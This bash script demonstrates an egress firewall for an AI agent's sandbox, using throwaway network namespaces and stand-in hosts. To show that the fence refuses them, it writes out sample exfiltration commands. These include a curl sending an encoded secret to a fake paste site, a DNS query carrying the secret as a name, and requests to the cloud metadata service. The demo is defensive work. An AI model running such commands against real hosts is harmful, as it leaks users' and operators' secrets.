#!/usr/bin/env bash
# egress-fence demo: a throwaway world of two network namespaces, the sandbox (the agent's
# host) and "net" (the internet, with its own DNS server answering the shipped default
# policy's names with a local test host, a paste site and a metadata service). The default
# policy is applied in the sandbox, the table shown, an allowed and a refused connection made,
# the refusal's NFLOG event shown; then the same policy in DNS guard mode (`egress-fence run`
# as the sandbox's resolver) answers an allowed name and refuses a secret asked as a name,
# which its upstream never hears; the table is torn down and every namespace removed.
#
# Nothing touches this machine's own network namespace. Run as root.
set -euo pipefail
cd "$(dirname "$0")/.."
# EGRESS_FENCE_BIN names an already built binary (the test suite runs the demo that way).
if [ -n "${EGRESS_FENCE_BIN:-}" ]; then
  bin=$EGRESS_FENCE_BIN
else
  ./scripts/deps.sh
  cargo build --release --locked --quiet
  bin="$PWD/target/release/egress-fence"
fi

id="efdemo-$$"
sb="$id-sb"
net="$id-net"
tmp=$(mktemp -d)
# Generations and locks go to the demo's own state directory, not /var/lib/egress-fence.
export EGRESS_FENCE_STATE_DIR="$tmp/state"
pids=()

cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  # Whatever still runs inside the namespaces would keep them alive after `ip netns del`.
  for ns in "$sb" "$net"; do
    ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null || true
  done
  wait 2>/dev/null || true
  ip netns del "$sb" 2>/dev/null || true
  ip netns del "$net" 2>/dev/null || true
  rm -rf "/etc/netns/$sb" "$tmp"
  rmdir /etc/netns 2>/dev/null || true
}
trap cleanup EXIT

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
in_sb() { ip netns exec "$sb" "$@"; }
in_net() { ip netns exec "$net" "$@"; }
try() {
  local what=$1
  shift
  printf -- '-- %s\n   $ %s\n' "$what" "$*"
  if out=$(in_sb "$@" 2>&1); then
    printf '   OK: %s\n' "$(head -c 200 <<<"$out" | tr '\n' ' ')"
  else
    printf '   REFUSED: %s\n' "$(head -c 200 <<<"$out" | tr '\n' ' ')"
  fi
}

step "1. A throwaway world: namespaces $sb (the agent's host) and $net (the internet)"
ip netns add "$sb"
ip netns add "$net"
ip -n "$sb" link set lo up
ip -n "$net" link set lo up
ip -n "$sb" link add eth0 type veth peer name veth0 netns "$net"
ip -n "$sb" addr add 198.51.100.2/24 dev eth0
ip -n "$sb" addr add 2001:db8:ffff::2/64 dev eth0 nodad
ip -n "$net" addr add 198.51.100.1/24 dev veth0
ip -n "$net" addr add 2001:db8:ffff::1/64 dev veth0 nodad
ip -n "$sb" link set eth0 up
ip -n "$net" link set veth0 up
ip -n "$sb" route add default via 198.51.100.1
ip -n "$sb" -6 route add default via 2001:db8:ffff::1
for a in 192.0.2.53 192.0.2.10 203.0.113.66 169.254.169.254; do
  ip -n "$net" addr add "$a/32" dev lo
done

# The world's DNS answers every name of the default policy with one local host (192.0.2.10),
# paste.example.net with the "attacker" (203.0.113.66), and nothing else.
records=()
for name in $(sed -n 's/^ *- domain: *\([^ #]*\).*/\1/p' policies/default.yaml); do
  records+=("--address=/$name/192.0.2.10")
done
records+=("--address=/paste.example.net/203.0.113.66")
ip netns exec "$net" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
  --bind-interfaces --listen-address=192.0.2.53 --local=/#/ --user=root --group=root \
  --log-queries --log-facility=- --pid-file= "${records[@]}" 2>"$tmp/dnsmasq.log" &
pids+=($!)
mkdir -p "/etc/netns/$sb" "$tmp/www"
echo "nameserver 192.0.2.53" >"/etc/netns/$sb/resolv.conf"
echo "hello from the internet" >"$tmp/www/index.html"
for target in 192.0.2.10:443 203.0.113.66:443 169.254.169.254:80; do
  ip netns exec "$net" python3 -m http.server "${target##*:}" --bind "${target%:*}" \
    --directory "$tmp/www" >/dev/null 2>&1 &
  pids+=($!)
done
for target in 192.0.2.10:443 203.0.113.66:443 169.254.169.254:80 192.0.2.53:53; do
  for _ in $(seq 50); do
    in_net nc -z "${target%:*}" "${target##*:}" 2>/dev/null && break
    sleep 0.1
  done
done
echo "model API, registries, GitHub -> 192.0.2.10; paste.example.net -> 203.0.113.66;"
echo "metadata service at 169.254.169.254; DNS at 192.0.2.53"

step "2. Without a boundary, a prompt-injected agent can send a secret anywhere"
try "to a paste site" curl -sS --max-time 3 "http://paste.example.net:443/?d=c2VjcmV0"

step "3. Apply the shipped default policy inside the sandbox"
"$bin" check policies/default.yaml
"$bin" apply policies/default.yaml --netns "$sb"

step "4. The table, read back from the kernel"
"$bin" status --netns "$sb"

step "5. Connections from inside the boundary"
"$bin" watch --netns "$sb" >"$tmp/watch.log" 2>&1 &
watch_pid=$!
pids+=($watch_pid)
sleep 0.3
try "allowed: the model API" curl -sS --max-time 3 http://api.anthropic.com:443/
try "refused: the paste site" curl -sS --max-time 3 "http://paste.example.net:443/?d=c2VjcmV0"
try "refused: the cloud metadata service" curl -sS --max-time 3 http://169.254.169.254/
try "refused: DNS to any other resolver" dig +tries=1 +time=2 @203.0.113.66 example.com

step "6. What was refused, as egress-fence watch reports it (NFLOG group 100)"
sleep 0.3
cat "$tmp/watch.log"

# dig exits 0 on REFUSED too: show the status it got.
ask() {
  local what=$1
  shift
  printf -- '-- %s\n   $ %s\n' "$what" "$*"
  local out
  out=$(in_sb "$@" 2>&1 || true)
  printf '   %s\n' "$(grep -m1 -oE 'status: [A-Z]+|connection timed out|communications error.*' <<<"$out" || echo "no answer")"
}

step "7. The DNS guard: the same policy with dns.mode guard, egress-fence run as the resolver"
kill "$watch_pid" 2>/dev/null && wait "$watch_pid" 2>/dev/null || true
{ cat policies/default.yaml; printf 'dns:\n  mode: guard\n  upstream: [192.0.2.53]\n'; } >"$tmp/guard.yaml"
"$bin" check "$tmp/guard.yaml"
echo "nameserver 127.0.0.53" >"/etc/netns/$sb/resolv.conf"
"$bin" run "$tmp/guard.yaml" --netns "$sb" 2>"$tmp/guard.log" &
guard_pid=$!
pids+=($guard_pid)
for _ in $(seq 100); do
  grep -q "DNS guard is serving" "$tmp/guard.log" && break
  sleep 0.1
done
"$bin" watch --netns "$sb" >"$tmp/watch.log" 2>&1 &
pids+=($!)
sleep 0.5
try "allowed: the model API, its address learned from the guard's answer" \
  curl -sS --max-time 3 http://api.anthropic.com:443/
ask "refused: a secret asked as a DNS name" dig +tries=1 +time=2 c2VjcmV0.paste.example.net
ask "refused: DNS straight to the upstream resolver, as the agent's user (not the guard's)" \
  setpriv --reuid=65534 --regid=65534 --clear-groups dig +tries=1 +time=2 @192.0.2.53 example.com
echo "-- the upstream resolver was asked for api.anthropic.com $(grep -ci 'query.*api\.anthropic\.com' "$tmp/dnsmasq.log") times,"
echo "   for the secret name $(grep -ci 'c2VjcmV0' "$tmp/dnsmasq.log") times"
sleep 0.3
echo "-- egress-fence watch:"
cat "$tmp/watch.log"
kill "$guard_pid" && wait "$guard_pid" 2>/dev/null || true

step "8. Tear down: the table goes, nothing else is touched"
"$bin" teardown --netns "$sb"
"$bin" status --netns "$sb" || true

step "9. Remove the namespaces"
cleanup
trap - EXIT
echo "removed $sb and $net"
